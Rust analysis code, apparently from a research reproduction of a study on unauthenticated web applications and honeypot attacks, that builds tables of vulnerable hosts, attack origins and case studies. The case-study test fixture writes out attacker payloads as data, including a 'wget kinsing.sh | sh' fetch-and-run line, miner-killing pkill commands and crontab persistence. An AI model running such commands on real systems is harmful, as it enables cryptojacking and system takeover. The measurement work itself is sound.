use nokeys_defend::{Severity, VendorFinding};
use nokeys_honeypot::StudyResult;
use nokeys_scanner::ScanReport;

/// Defender-detection cell for one app ("S1", "S2", "S1&2", "✗", or
/// "info" suffixes).
fn defend_cell(app: AppId, s1: &[VendorFinding], s2: &[VendorFinding]) -> String {
    let hit =
        |findings: &[VendorFinding]| findings.iter().find(|f| f.app == app).map(|f| f.severity);
    match (hit(s1), hit(s2)) {
        (Some(Severity::Vulnerability), Some(Severity::Vulnerability)) => "S1&2".into(),
        (Some(Severity::Vulnerability), _) => "S1".into(),
        (_, Some(Severity::Vulnerability)) => "S2".into(),
        (_, Some(Severity::Informational)) => "S2 (info)".into(),
        _ => "✗".into(),
    }
}

/// Build Table 9. `benign_divisor`/`mav_divisor` are the universe
/// scales; the vulnerable percentage is computed on rescaled counts,
/// exactly as in Table 3.
pub fn build(
    report: &ScanReport,
    study: &StudyResult,
    s1: &[VendorFinding],
    s2: &[VendorFinding],
    benign_divisor: u64,
    mav_divisor: u64,
) -> Table {
    let mut t = Table::new(
        "Table 9 — Summary: defaults, vulnerable instances, attacks, defender detection",
        &["Type", "App", "Default", "Vulnerable", "Attacks", "Defend"],
    );
    for app in AppId::in_scope() {
        let posture = app
            .info()
            .default_posture
            .map(|p| p.symbol())
            .unwrap_or("—");
        let hosts = report.hosts_running(app);
        let mavs = report.mavs(app);
        let rescaled = hosts.saturating_sub(mavs) * benign_divisor + mavs * mav_divisor;
        let vulnerable = if hosts > 0 {
            format!(
                "{} ({:.1}%)",
                mavs,
                100.0 * (mavs * mav_divisor) as f64 / rescaled.max(1) as f64
            )
        } else {
            format!("{mavs}")
        };
        let attacks = study.attacks_on(app).count();
        t.row(&[
            app.info().category.as_str().to_string(),
            app.name().to_string(),
            posture.to_string(),
            vulnerable,
            attacks.to_string(),
            defend_cell(app, s1, s2),
        ]);
    }
    t
}
