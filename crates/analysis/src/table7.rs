//! Table 7: countries with the most attacks and their AS counts.

use crate::render::Table;
use nokeys_honeypot::StudyResult;
use std::collections::{BTreeSet, HashMap};
use std::net::Ipv4Addr;

/// Count attacks per country (via the plan's IP → geo mapping, the
/// analog of the paper's IP metadata service).
pub fn country_counts(result: &StudyResult) -> Vec<(&'static str, u64, usize)> {
    let geo_of: HashMap<Ipv4Addr, _> = result.plan.attacks.iter().map(|a| (a.ip, a.geo)).collect();
    let mut attacks_per: HashMap<&'static str, u64> = HashMap::new();
    let mut ases_per: HashMap<&'static str, BTreeSet<u32>> = HashMap::new();
    for a in &result.attacks {
        let Some(rec) = geo_of.get(&a.source) else {
            continue;
        };
        *attacks_per.entry(rec.country.0).or_default() += 1;
        ases_per
            .entry(rec.country.0)
            .or_default()
            .insert(rec.asys.asn);
    }
    let mut rows: Vec<(&str, u64, usize)> = attacks_per
        .into_iter()
        .map(|(c, n)| (c, n, ases_per[&c].len()))
        .collect();
    rows.sort_by_key(|(c, n, _)| (std::cmp::Reverse(*n), *c));
    rows
}

/// Paper values: top-10 countries.
pub const PAPER: [(&str, u64); 10] = [
    ("Netherlands", 496),
    ("Brazil", 398),
    ("United States", 359),
    ("Russia", 192),
    ("Singapore", 168),
    ("Moldova", 136),
    ("United Kingdom", 71),
    ("Poland", 69),
    ("India", 52),
    ("Switzerland", 51),
];

/// Build Table 7.
pub fn build(result: &StudyResult) -> Table {
    let rows = country_counts(result);
    let mut t = Table::new(
        "Table 7 — Top attack-origin countries (measured vs paper)",
        &["Country", "# Attacks", "# AS", "paper"],
    );
    for (i, (country, attacks, ases)) in rows.iter().take(10).enumerate() {
        let paper = PAPER
            .get(i)
            .map(|(c, n)| format!("{c} {n}"))
            .unwrap_or_default();
        t.row(&[
            country.to_string(),
            attacks.to_string(),
            ases.to_string(),
            paper,
        ]);
    }
    t
}
