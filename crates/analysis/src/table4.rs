//! Table 4: countries and autonomous systems hosting vulnerable
//! applications.

use crate::render::Table;
use nokeys_netsim::GeoDb;
use nokeys_scanner::ScanReport;
use std::collections::HashMap;

/// Top-`n` countries and ASes among the vulnerable hosts.
pub fn build(report: &ScanReport, geo: &GeoDb, n: usize) -> Table {
    let mut by_country: HashMap<&'static str, u64> = HashMap::new();
    let mut by_as: HashMap<(u32, &'static str), u64> = HashMap::new();
    let mut hosting = 0u64;
    let mut located = 0u64;
    for f in report.vulnerable_findings() {
        let Some(rec) = geo.lookup(f.endpoint.ip) else {
            continue;
        };
        located += 1;
        *by_country.entry(rec.country.0).or_default() += 1;
        *by_as.entry((rec.asys.asn, rec.asys.name)).or_default() += 1;
        if rec.asys.hosting {
            hosting += 1;
        }
    }
    let mut countries: Vec<(&str, u64)> = by_country.into_iter().collect();
    countries.sort_by_key(|(name, n)| (std::cmp::Reverse(*n), *name));
    let mut ases: Vec<((u32, &str), u64)> = by_as.into_iter().collect();
    ases.sort_by_key(|((asn, _), n)| (std::cmp::Reverse(*n), *asn));

    let hosting_pct = (100 * hosting).checked_div(located).unwrap_or(0);
    let mut t = Table::new(
        format!(
            "Table 4 — Top {n} countries / ASes of vulnerable hosts ({hosting_pct}% in hosting networks; paper: ~64%)"
        ),
        &["Country", "Hosts", "AS", "Provider", "Hosts "],
    );
    for i in 0..n {
        let (country, c_hosts) = countries
            .get(i)
            .map(|(c, h)| (c.to_string(), h.to_string()))
            .unwrap_or_default();
        let (asys, a_hosts) = ases
            .get(i)
            .map(|((asn, name), h)| ((format!("AS{asn}"), name.to_string()), h.to_string()))
            .unwrap_or_default();
        t.row(&[country, c_hosts, asys.0, asys.1, a_hosts]);
    }
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn empty_report_renders_empty_rows() {
        let t = build(&ScanReport::default(), &GeoDb::new(), 5);
        assert_eq!(t.rows.len(), 5);
    }
}
