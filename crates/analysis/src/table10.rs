//! Appendix Table 10: the MAV detection steps of every plugin — printed
//! from the live plugin registry, so the documentation cannot drift from
//! the implementation.

use crate::render::Table;
use nokeys_apps::AppId;
use nokeys_scanner::plugin_steps;

/// Build Table 10.
pub fn build() -> Table {
    let mut t = Table::new(
        "Table 10 — MAV detection steps (from the plugin registry)",
        &["Application", "Step", "Description"],
    );
    for app in AppId::in_scope() {
        for (i, step) in plugin_steps(app).iter().enumerate() {
            let name = if i == 0 {
                app.name().to_string()
            } else {
                String::new()
            };
            t.row(&[name, (i + 1).to_string(), step.to_string()]);
        }
    }
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_in_scope_app_has_documented_steps() {
        let t = build();
        let s = t.render();
        for app in AppId::in_scope() {
            assert!(s.contains(app.name()), "{app} missing from Table 10");
        }
        assert!(s.contains("/wp-admin/install.php"));
        assert!(s.contains("/v1/agent/self"));
    }
}
