//! Honeypot operational statistics: snapshot restores per application
//! and reason (Section 4.1's monitoring procedures made visible).

use crate::render::Table;
use nokeys_apps::AppId;
use nokeys_honeypot::study::RestoreReason;
use nokeys_honeypot::StudyResult;

/// Restore counts for one application.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct RestoreCounts {
    pub resource_threshold: u64,
    pub compromise_detected: u64,
    pub availability_lost: u64,
}

impl RestoreCounts {
    pub fn total(&self) -> u64 {
        self.resource_threshold + self.compromise_detected + self.availability_lost
    }
}

/// Count restores for `app`.
pub fn counts(result: &StudyResult, app: AppId) -> RestoreCounts {
    let mut c = RestoreCounts::default();
    for r in result.restores.iter().filter(|r| r.app == app) {
        match r.reason {
            RestoreReason::ResourceThreshold => c.resource_threshold += 1,
            RestoreReason::CompromiseDetected => c.compromise_detected += 1,
            RestoreReason::AvailabilityLost => c.availability_lost += 1,
        }
    }
    c
}

/// Build the restores table (applications with at least one restore).
pub fn build(result: &StudyResult) -> Table {
    let mut t = Table::new(
        "Honeypot snapshot restores (resource threshold / compromise / availability)",
        &["App", "Resource", "Compromise", "Availability", "Total"],
    );
    let mut grand = RestoreCounts::default();
    for app in AppId::in_scope() {
        let c = counts(result, app);
        if c.total() == 0 {
            continue;
        }
        grand.resource_threshold += c.resource_threshold;
        grand.compromise_detected += c.compromise_detected;
        grand.availability_lost += c.availability_lost;
        t.row(&[
            app.name().to_string(),
            c.resource_threshold.to_string(),
            c.compromise_detected.to_string(),
            c.availability_lost.to_string(),
            c.total().to_string(),
        ]);
    }
    t.row(&[
        "Total".to_string(),
        grand.resource_threshold.to_string(),
        grand.compromise_detected.to_string(),
        grand.availability_lost.to_string(),
        grand.total().to_string(),
    ]);
    t
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_honeypot::study::RestoreEvent;
    use nokeys_netsim::SimTime;

    fn result_with(restores: Vec<(AppId, RestoreReason)>) -> StudyResult {
        StudyResult {
            plan: nokeys_attack::study_plan(1),
            records: Vec::new(),
            attacks: Vec::new(),
            actors: Vec::new(),
            restores: restores
                .into_iter()
                .map(|(app, reason)| RestoreEvent {
                    time: SimTime(0),
                    app,
                    reason,
                })
                .collect(),
        }
    }

    #[test]
    fn counting_by_reason() {
        let r = result_with(vec![
            (AppId::Hadoop, RestoreReason::ResourceThreshold),
            (AppId::Hadoop, RestoreReason::ResourceThreshold),
            (AppId::Hadoop, RestoreReason::CompromiseDetected),
            (AppId::JupyterLab, RestoreReason::AvailabilityLost),
        ]);
        let hadoop = counts(&r, AppId::Hadoop);
        assert_eq!(hadoop.resource_threshold, 2);
        assert_eq!(hadoop.compromise_detected, 1);
        assert_eq!(hadoop.total(), 3);
        assert_eq!(counts(&r, AppId::JupyterLab).availability_lost, 1);
        assert_eq!(counts(&r, AppId::Gocd).total(), 0);
    }

    #[test]
    fn table_skips_untouched_apps_and_totals() {
        let r = result_with(vec![(AppId::Docker, RestoreReason::CompromiseDetected)]);
        let out = build(&r).render();
        assert!(out.contains("Docker"));
        assert!(!out.contains("Zeppelin"));
        assert!(out.lines().last().unwrap().starts_with("Total"));
    }
}
