//! Table 8: autonomous systems with the most attacks.

use crate::render::Table;
use nokeys_honeypot::StudyResult;
use std::collections::{BTreeSet, HashMap};
use std::net::Ipv4Addr;

/// Count attacks per AS, with the number of involved countries.
pub fn as_counts(result: &StudyResult) -> Vec<(u32, &'static str, u64, usize)> {
    let geo_of: HashMap<Ipv4Addr, _> = result.plan.attacks.iter().map(|a| (a.ip, a.geo)).collect();
    let mut attacks_per: HashMap<(u32, &'static str), u64> = HashMap::new();
    let mut countries_per: HashMap<(u32, &'static str), BTreeSet<&'static str>> = HashMap::new();
    for a in &result.attacks {
        let Some(rec) = geo_of.get(&a.source) else {
            continue;
        };
        let key = (rec.asys.asn, rec.asys.name);
        *attacks_per.entry(key).or_default() += 1;
        countries_per.entry(key).or_default().insert(rec.country.0);
    }
    let mut rows: Vec<(u32, &str, u64, usize)> = attacks_per
        .into_iter()
        .map(|((asn, name), n)| (asn, name, n, countries_per[&(asn, name)].len()))
        .collect();
    rows.sort_by_key(|(asn, _, n, _)| (std::cmp::Reverse(*n), *asn));
    rows
}

/// Paper values: top-5 ASes.
pub const PAPER: [(&str, u64, usize); 5] = [
    ("Serverion BV", 469, 2),
    ("Gamers Club", 396, 2),
    ("DigitalOcean", 351, 14),
    ("Alexhost", 135, 1),
    ("Amazon EC2", 78, 4),
];

/// Build Table 8.
pub fn build(result: &StudyResult) -> Table {
    let rows = as_counts(result);
    let mut t = Table::new(
        "Table 8 — Top attack-origin ASes (measured vs paper)",
        &["AS", "Provider", "# Attacks", "# Countries", "paper"],
    );
    for (i, (asn, name, attacks, countries)) in rows.iter().take(5).enumerate() {
        let paper = PAPER
            .get(i)
            .map(|(n, a, c)| format!("{n} {a} ({c})"))
            .unwrap_or_default();
        t.row(&[
            format!("AS{asn}"),
            name.to_string(),
            attacks.to_string(),
            countries.to_string(),
            paper,
        ]);
    }
    t
}
