//! Table 2: open ports and corresponding HTTP(S) responses.

use crate::render::{grouped, Table};
use nokeys_netsim::calibration::PORT_POPULATIONS;
use nokeys_scanner::ScanReport;

/// Build Table 2 from a scan report, with the paper's values scaled by
/// `background_divisor` for side-by-side comparison.
pub fn build(report: &ScanReport, background_divisor: u64) -> Table {
    let mut t = Table::new(
        format!(
            "Table 2 — Open ports and HTTP(S) responses (paper values shown at 1:{background_divisor})"
        ),
        &["Port", "# Open", "# HTTP", "# HTTPS", "paper Open", "paper HTTP", "paper HTTPS"],
    );
    let mut totals = (0u64, 0u64, 0u64);
    let mut paper_totals = (0u64, 0u64, 0u64);
    for pop in &PORT_POPULATIONS {
        let stat = report
            .port_stats
            .get(&pop.port)
            .copied()
            .unwrap_or_default();
        totals.0 += stat.open;
        totals.1 += stat.http;
        totals.2 += stat.https;
        let scale = |x: u64| x.checked_div(background_divisor).unwrap_or(x);
        paper_totals.0 += scale(pop.open);
        paper_totals.1 += scale(pop.http);
        paper_totals.2 += scale(pop.https);
        t.row(&[
            pop.port.to_string(),
            grouped(stat.open),
            grouped(stat.http),
            grouped(stat.https),
            grouped(scale(pop.open)),
            grouped(scale(pop.http)),
            grouped(scale(pop.https)),
        ]);
    }
    t.row(&[
        "Total".to_string(),
        grouped(totals.0),
        grouped(totals.1),
        grouped(totals.2),
        grouped(paper_totals.0),
        grouped(paper_totals.1),
        grouped(paper_totals.2),
    ]);
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_all_twelve_ports_plus_total() {
        let report = ScanReport::default();
        let t = build(&report, 2000);
        assert_eq!(t.rows.len(), 13);
        let s = t.render();
        assert!(s.contains("8153"));
        assert!(s.contains("Total"));
    }
}
