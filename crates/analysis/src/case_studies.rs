//! RQ4's qualitative findings: the three attack case studies the paper
//! narrates, extracted mechanically from the study's audit data.
//!
//! 1. A Monero cryptominer on Hadoop that kills competing malware and
//!    persists via a cronjob (observed four times from two addresses).
//! 2. The Kinsing campaign, historically Docker-focused, now also
//!    spreading to Hadoop.
//! 3. A vigilante who repeatedly shuts down the Jupyter Lab honeypot.

use crate::render::Table;
use nokeys_apps::AppId;
use nokeys_honeypot::StudyResult;
use std::collections::BTreeSet;
use std::net::Ipv4Addr;

/// Attacks whose payload installs a cronjob and kills competitors.
pub fn miner_with_persistence(result: &StudyResult) -> (usize, usize) {
    let matching: Vec<_> = result
        .attacks
        .iter()
        .filter(|a| {
            a.app == AppId::Hadoop
                && a.payloads
                    .iter()
                    .any(|p| p.contains("crontab") && p.contains("pkill"))
        })
        .collect();
    let ips: BTreeSet<Ipv4Addr> = matching.iter().map(|a| a.source).collect();
    (matching.len(), ips.len())
}

/// Kinsing-payload attack counts per application (the campaign's
/// spread).
pub fn kinsing_spread(result: &StudyResult) -> Vec<(AppId, usize)> {
    let mut out = Vec::new();
    for app in [AppId::Docker, AppId::Hadoop] {
        let n = result
            .attacks_on(app)
            .filter(|a| a.payloads.iter().any(|p| p.contains("kinsing")))
            .count();
        out.push((app, n));
    }
    out
}

/// The vigilante's shutdowns of Jupyter Lab.
pub fn vigilante_shutdowns(result: &StudyResult) -> usize {
    result
        .attacks_on(AppId::JupyterLab)
        .filter(|a| a.payloads.iter().any(|p| p == "shutdown"))
        .count()
}

/// Build the case-study table.
pub fn build(result: &StudyResult) -> Table {
    let mut t = Table::new(
        "RQ4 case studies (paper: cron-persisting miner, Kinsing spreading to Hadoop, a vigilante)",
        &["Case", "Observation"],
    );
    let (miner_attacks, miner_ips) = miner_with_persistence(result);
    t.row(&[
        "Monero miner with cron persistence on Hadoop".to_string(),
        format!("{miner_attacks} attacks from {miner_ips} addresses (paper: 4 from 2)"),
    ]);
    for (app, n) in kinsing_spread(result) {
        t.row(&[
            format!("Kinsing-campaign attacks on {}", app.name()),
            format!("{n} attacks"),
        ]);
    }
    t.row(&[
        "Vigilante shutdowns of Jupyter Lab".to_string(),
        format!(
            "{} (each takes the service down until restore)",
            vigilante_shutdowns(result)
        ),
    ]);
    t
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_honeypot::detect::Attack;
    use nokeys_netsim::SimTime;

    fn attack(app: AppId, ip: [u8; 4], payload: &str) -> Attack {
        Attack {
            app,
            source: Ipv4Addr::from(ip),
            start: SimTime(0),
            end: SimTime(0),
            payloads: vec![payload.to_string()],
        }
    }

    fn fixture() -> StudyResult {
        // Build a minimal StudyResult through the public study runner is
        // expensive; construct the attacks list directly instead.
        StudyResult {
            plan: nokeys_attack::study_plan(1),
            records: Vec::new(),
            attacks: vec![
                attack(
                    AppId::Hadoop,
                    [1, 0, 0, 1],
                    "pkill -f kdevtmpfsi; (crontab -l) | crontab -",
                ),
                attack(
                    AppId::Hadoop,
                    [1, 0, 0, 2],
                    "pkill -f kinsing; crontab something",
                ),
                attack(AppId::Hadoop, [1, 0, 0, 3], "wget kinsing.sh | sh"),
                attack(AppId::Docker, [1, 0, 0, 4], "run /tmp/kinsing"),
                attack(AppId::JupyterLab, [1, 0, 0, 5], "shutdown"),
                attack(AppId::JupyterLab, [1, 0, 0, 5], "ls"),
            ],
            actors: Vec::new(),
            restores: Vec::new(),
        }
    }

    #[test]
    fn miner_detection_requires_cron_and_kill() {
        let (attacks, ips) = miner_with_persistence(&fixture());
        assert_eq!(attacks, 2);
        assert_eq!(ips, 2);
    }

    #[test]
    fn kinsing_counts_per_app() {
        let spread = kinsing_spread(&fixture());
        assert_eq!(spread, vec![(AppId::Docker, 1), (AppId::Hadoop, 2)]);
    }

    #[test]
    fn vigilante_counting() {
        assert_eq!(vigilante_shutdowns(&fixture()), 1);
    }

    #[test]
    fn table_renders() {
        let out = build(&fixture()).render();
        assert!(out.contains("Monero miner"));
        assert!(out.contains("Vigilante"));
    }
}
