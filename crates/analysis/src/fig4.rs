//! Figure 4: attackers targeting at least two applications, with their
//! IP pools — the bipartite attacker/application view.

use crate::render::Table;
use nokeys_honeypot::StudyResult;

/// Roman numerals for the attacker labels I..X.
const ROMAN: [&str; 10] = ["I", "II", "III", "IV", "V", "VI", "VII", "VIII", "IX", "X"];

/// Build Figure 4 from the *recovered* actor clusters: multi-application
/// actors ordered by IP-pool size then attack count (attacker I is the
/// one with the most addresses).
pub fn build(result: &StudyResult) -> Table {
    let mut multi: Vec<_> = result.actors.iter().filter(|c| c.is_multi_app()).collect();
    multi.sort_by_key(|c| {
        (
            std::cmp::Reverse(c.ips.len()),
            std::cmp::Reverse(c.attack_count),
        )
    });
    let mut t = Table::new(
        "Figure 4 — Multi-application attackers (recovered by payload/IP clustering)",
        &["Attacker", "# IPs", "# Attacks", "Applications"],
    );
    for (i, c) in multi.iter().enumerate() {
        let apps: Vec<&str> = c.apps.iter().map(|a| a.name()).collect();
        t.row(&[
            ROMAN.get(i).copied().unwrap_or("XI+").to_string(),
            c.ips.len().to_string(),
            c.attack_count.to_string(),
            apps.join(" + "),
        ]);
    }
    t
}
