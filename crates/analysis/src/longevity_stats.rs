//! Longevity statistics beyond Figure 2's curves: per-application mean
//! time-in-vulnerable-state, the fixed/offline/still-vulnerable totals
//! and the version-update count (the paper: 139 fixed (3.2%), 1,823
//! offline (43.2%), 101 updated (2.4%); Jenkins and WordPress vulnerable
//! for the shortest time, Joomla and Drupal the longest).

use crate::render::{pct, Table};
use nokeys_apps::AppId;
use nokeys_scanner::observer::{LongevityStudy, ObservedStatus};

/// Mean observed time (hours) a host of `app` stayed vulnerable.
pub fn mean_vulnerable_hours(study: &LongevityStudy, app: AppId) -> Option<f64> {
    if study.times_secs.len() < 2 {
        return None;
    }
    let interval_hours = (study.times_secs[1] - study.times_secs[0]) as f64 / 3600.0;
    let rows: Vec<f64> = study
        .timelines
        .iter()
        .filter(|t| t.finding.app == app)
        .map(|t| {
            t.statuses
                .iter()
                .filter(|s| **s == ObservedStatus::Vulnerable)
                .count() as f64
                * interval_hours
        })
        .collect();
    if rows.is_empty() {
        None
    } else {
        Some(crate::stats::mean(&rows))
    }
}

/// End-of-study totals.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct EndState {
    pub vulnerable: u64,
    pub fixed: u64,
    pub offline: u64,
    pub updated: u64,
    pub total: u64,
}

/// Compute the end-of-study totals.
pub fn end_state(study: &LongevityStudy) -> EndState {
    let last = study.times_secs.len().saturating_sub(1);
    let counts = study.counts_at(last);
    EndState {
        vulnerable: counts.vulnerable,
        fixed: counts.fixed,
        offline: counts.offline,
        updated: study.updated_count(),
        total: study.timelines.len() as u64,
    }
}

/// Build the longevity-statistics table.
pub fn build(study: &LongevityStudy) -> Table {
    let s = end_state(study);
    let mut t = Table::new(
        "Longevity statistics after four weeks (paper: 3.2% fixed, 43.2% offline, 2.4% updated)",
        &["Metric", "Hosts", "Share"],
    );
    t.row(&[
        "still vulnerable".to_string(),
        s.vulnerable.to_string(),
        pct(s.vulnerable, s.total),
    ]);
    t.row(&[
        "fixed (online, MAV gone)".to_string(),
        s.fixed.to_string(),
        pct(s.fixed, s.total),
    ]);
    t.row(&[
        "offline / firewalled".to_string(),
        s.offline.to_string(),
        pct(s.offline, s.total),
    ]);
    t.row(&[
        "version updated".to_string(),
        s.updated.to_string(),
        pct(s.updated, s.total),
    ]);

    // Mean vulnerable duration per application, sorted shortest first
    // (the paper calls out Jenkins/WordPress as shortest, Joomla/Drupal
    // as longest).
    let mut rows: Vec<(AppId, f64)> = AppId::in_scope()
        .filter_map(|app| mean_vulnerable_hours(study, app).map(|h| (app, h)))
        .collect();
    rows.sort_by(|a, b| a.1.partial_cmp(&b.1).expect("finite"));
    for (app, hours) in rows {
        t.row(&[
            format!("mean vulnerable time, {}", app.name()),
            format!("{:.0} h", hours),
            String::new(),
        ]);
    }
    t
}

#[cfg(test)]
mod tests {
    use super::*;
    use nokeys_http::{Endpoint, Scheme};
    use nokeys_scanner::observer::HostTimeline;
    use nokeys_scanner::HostFinding;
    use std::net::Ipv4Addr;

    fn study() -> LongevityStudy {
        let make = |app: AppId, statuses: Vec<ObservedStatus>, updated: bool| HostTimeline {
            finding: HostFinding {
                endpoint: Endpoint::new(Ipv4Addr::new(20, 0, 0, 1), 80),
                scheme: Scheme::Http,
                app,
                vulnerable: true,
                version: None,
                fingerprint_method: None,
            },
            insecure_by_default: true,
            statuses,
            updated,
            asset_hashes: Vec::new(),
        };
        use ObservedStatus::*;
        LongevityStudy {
            times_secs: vec![0, 3600, 7200, 10800],
            timelines: vec![
                make(
                    AppId::Jenkins,
                    vec![Vulnerable, Offline, Offline, Offline],
                    false,
                ),
                make(
                    AppId::Drupal,
                    vec![Vulnerable, Vulnerable, Vulnerable, Vulnerable],
                    true,
                ),
                make(
                    AppId::Drupal,
                    vec![Vulnerable, Vulnerable, Fixed, Fixed],
                    false,
                ),
            ],
        }
    }

    #[test]
    fn end_state_totals() {
        let s = end_state(&study());
        assert_eq!(s.vulnerable, 1);
        assert_eq!(s.fixed, 1);
        assert_eq!(s.offline, 1);
        assert_eq!(s.updated, 1);
        assert_eq!(s.total, 3);
    }

    #[test]
    fn mean_vulnerable_duration_ranks_apps() {
        let s = study();
        let jenkins = mean_vulnerable_hours(&s, AppId::Jenkins).expect("present");
        let drupal = mean_vulnerable_hours(&s, AppId::Drupal).expect("present");
        assert!(jenkins < drupal, "{jenkins} < {drupal}");
        assert_eq!(mean_vulnerable_hours(&s, AppId::Gocd), None);
    }

    #[test]
    fn table_renders() {
        let t = build(&study());
        let out = t.render();
        assert!(out.contains("still vulnerable"));
        assert!(out.contains("mean vulnerable time, Jenkins"));
    }
}
