//! Scan-duration model (Section 3.2, "Experiment Setup").
//!
//! The paper scanned all of IPv4 in about 22 hours using 64 machines
//! (48 cores / 384 GB each). The simulation completes in seconds, so
//! wall-clock comparisons need a model: given per-machine probe and HTTP
//! rates, how long would the *measured* workload have taken on the
//! paper's fleet — and how long does the full IPv4 space take?

use crate::render::{grouped, Table};
use nokeys_scanner::ScanReport;

/// Fleet and rate assumptions.
#[derive(Debug, Clone, Copy)]
pub struct ScanModel {
    /// Number of scanning machines (paper: 64).
    pub machines: u32,
    /// SYN probes per second per machine (masscan class hardware easily
    /// sustains hundreds of thousands; the fleet-wide effective rate is
    /// what matters).
    pub probes_per_sec_per_machine: f64,
    /// Full HTTP exchanges per second per machine (stages II/III are
    /// connection-bound, far slower than SYN probing).
    pub http_per_sec_per_machine: f64,
}

impl Default for ScanModel {
    fn default() -> Self {
        // Calibrated so a full-IPv4 sweep lands near the paper's ~22 h.
        ScanModel {
            machines: 64,
            probes_per_sec_per_machine: 9_000.0,
            http_per_sec_per_machine: 120.0,
        }
    }
}

/// The paper's scannable address count (IPv4 minus IANA reservations).
pub const SCANNABLE_IPV4: u64 = 3_500_000_000;
/// Ports per address in the study.
pub const PORTS: u64 = 12;

impl ScanModel {
    /// Modeled duration, in hours, of a workload of `probes` SYN probes
    /// plus `http` full HTTP exchanges. The stages run as a pipeline, so
    /// the slower aggregate dominates.
    pub fn duration_hours(&self, probes: u64, http: u64) -> f64 {
        let fleet = self.machines as f64;
        let probe_secs = probes as f64 / (self.probes_per_sec_per_machine * fleet);
        let http_secs = http as f64 / (self.http_per_sec_per_machine * fleet);
        probe_secs.max(http_secs) / 3600.0
    }

    /// Modeled duration of the full-IPv4 study: every address probed on
    /// 12 ports, with the measured HTTP-exchange ratio extrapolated.
    pub fn full_internet_hours(&self, report: &ScanReport) -> f64 {
        let probes = SCANNABLE_IPV4 * PORTS;
        let http = if report.probes_sent == 0 {
            // Paper ballpark: ~100M HTTP(S) responses plus verification.
            120_000_000
        } else {
            // Scale the measured exchanges-per-probe ratio up.
            let per_probe = report_http_exchanges(report) as f64 / report.probes_sent as f64;
            (probes as f64 * per_probe) as u64
        };
        self.duration_hours(probes, http)
    }
}

/// HTTP exchanges implied by a report (responses seen across stages).
fn report_http_exchanges(report: &ScanReport) -> u64 {
    report
        .port_stats
        .values()
        .map(|s| s.http + s.https)
        .sum::<u64>()
        + report.findings.len() as u64 * 6 // plugin + fingerprint traffic
}

/// Build the model table.
pub fn build(report: &ScanReport) -> Table {
    let model = ScanModel::default();
    let mut t = Table::new(
        "Scan-duration model (paper: full IPv4 in ~22 h on 64 machines)",
        &["Workload", "Probes", "HTTP", "Modeled duration"],
    );
    let measured_http = report_http_exchanges(report);
    t.row(&[
        "measured (simulated universe)".to_string(),
        grouped(report.probes_sent),
        grouped(measured_http),
        format!(
            "{:.2} h",
            model.duration_hours(report.probes_sent, measured_http)
        ),
    ]);
    t.row(&[
        "full IPv4, paper fleet".to_string(),
        grouped(SCANNABLE_IPV4 * PORTS),
        "extrapolated".to_string(),
        format!("{:.1} h", model.full_internet_hours(report)),
    ]);
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn full_internet_is_about_a_day() {
        let hours = ScanModel::default().full_internet_hours(&ScanReport::default());
        assert!(
            (15.0..30.0).contains(&hours),
            "modeled full-IPv4 duration should be near the paper's 22 h, got {hours:.1}"
        );
    }

    #[test]
    fn slower_stage_dominates() {
        let m = ScanModel {
            machines: 1,
            probes_per_sec_per_machine: 1000.0,
            http_per_sec_per_machine: 10.0,
        };
        // 1000 probes (1 s) vs 100 exchanges (10 s): HTTP dominates.
        let hours = m.duration_hours(1000, 100);
        assert!((hours * 3600.0 - 10.0).abs() < 1e-6);
    }

    #[test]
    fn more_machines_scan_faster() {
        let base = ScanModel::default();
        let double = ScanModel {
            machines: 128,
            ..base
        };
        let r = ScanReport::default();
        assert!(double.full_internet_hours(&r) < base.full_internet_hours(&r));
    }
}
