//! Figure 1: software release dates, secure vs vulnerable instances.
//!
//! Seven bins as in the paper; rendered overall plus for the two
//! highlighted products (Jupyter Notebook — defaults changed in 2016 —
//! and Hadoop — never changed).

use crate::render::Table;
use nokeys_apps::{AppId, ReleaseDate};
use nokeys_scanner::{HostFinding, ScanReport};

/// The seven release-date bins.
pub const BINS: [&str; 7] = [
    "<2017", "2017", "2018", "2019", "2020 H1", "2020 H2", "2021",
];

/// Bin index of a release date.
pub fn bin_of(date: ReleaseDate) -> usize {
    match date.year {
        0..=2016 => 0,
        2017 => 1,
        2018 => 2,
        2019 => 3,
        2020 if date.month <= 6 => 4,
        2020 => 5,
        _ => 6,
    }
}

/// Histogram of (secure, vulnerable) per bin.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct BinCounts {
    pub secure: [u64; 7],
    pub vulnerable: [u64; 7],
}

impl BinCounts {
    pub fn total_vulnerable(&self) -> u64 {
        self.vulnerable.iter().sum()
    }
}

/// Compute bin counts over findings matching `filter`.
pub fn bins<'a>(findings: impl Iterator<Item = &'a HostFinding>, app: Option<AppId>) -> BinCounts {
    let mut counts = BinCounts::default();
    for f in findings {
        if let Some(target) = app {
            if f.app != target {
                continue;
            }
        }
        let Some(date) = f.release_date() else {
            continue;
        };
        let idx = bin_of(date);
        if f.vulnerable {
            counts.vulnerable[idx] += 1;
        } else {
            counts.secure[idx] += 1;
        }
    }
    counts
}

/// Build the Figure 1 table: overall + J-Notebook + Hadoop.
pub fn build(report: &ScanReport) -> Table {
    let mut t = Table::new(
        "Figure 1 — Release-date bins, secure vs vulnerable instances",
        &[
            "Series", "<2017", "2017", "2018", "2019", "2020 H1", "2020 H2", "2021",
        ],
    );
    let mut push = |label: &str, c: &[u64; 7]| {
        let mut row = vec![label.to_string()];
        row.extend(c.iter().map(|v| v.to_string()));
        t.row(&row);
    };
    let overall = bins(report.findings.iter(), None);
    push("All secure", &overall.secure);
    push("All vulnerable", &overall.vulnerable);
    let jn = bins(report.findings.iter(), Some(AppId::JupyterNotebook));
    push("J-Notebook secure", &jn.secure);
    push("J-Notebook vulnerable", &jn.vulnerable);
    let hadoop = bins(report.findings.iter(), Some(AppId::Hadoop));
    push("Hadoop secure", &hadoop.secure);
    push("Hadoop vulnerable", &hadoop.vulnerable);
    t
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bin_boundaries() {
        assert_eq!(bin_of(ReleaseDate::new(2015, 3)), 0);
        assert_eq!(bin_of(ReleaseDate::new(2016, 12)), 0);
